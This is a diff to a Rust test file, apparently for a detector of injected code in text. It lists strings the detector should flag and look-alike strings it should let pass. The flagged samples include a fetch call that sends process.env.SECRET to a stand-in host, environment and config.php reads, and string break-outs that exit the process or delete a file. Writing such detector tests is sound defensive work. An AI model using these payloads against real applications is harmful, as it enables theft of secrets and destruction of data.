@@ -28,6 +28,9 @@ fn members_of_roots() {
         "fetch('//a.example/?'+process.env.SECRET)",
         "Deno.env.toObject()",
         "ENV.to_h",
+        "#fileRead('config.php')#",
+        "ObjectSpace.each_object(String).first",
+        "Server.MapPath('.')",
         "puts ENV['HOME']",
         "File.read('x')",
         "IO.read \"config.php\"",
@@ -101,8 +104,25 @@ fn statements_behind_a_break_out() {
         "'||process.exit()||'",
     ] {
         attack(text);
+        // What stands before is in the string that is ended.
+        if text.starts_with(']') {
+            continue;
+        }
+        attack(&format!("some words, and (more) of them{text}"));
+        attack(&format!("{}{text}", "it's a long story. ".repeat(60)));
     }
-    for text in ["'. Then (maybe) '", "'; see 'x'", "(a);", "') and so on", "'+1", "';';'"] {
+    attack("');unlink('x');// and more");
+    for text in [
+        "'. Then (maybe) '",
+        "'; see 'x'",
+        "(a);",
+        "the 'quick', (brown) 'fox'; it's 'over' the dog's 'house'.",
+        "say 'yes'; then 'no'",
+        "df[(df['a'] > 5) & (df['b'] == 'x')].groupby('c')",
+        "') and so on",
+        "'+1",
+        "';';'",
+    ] {
         passes(text);
     }
 }
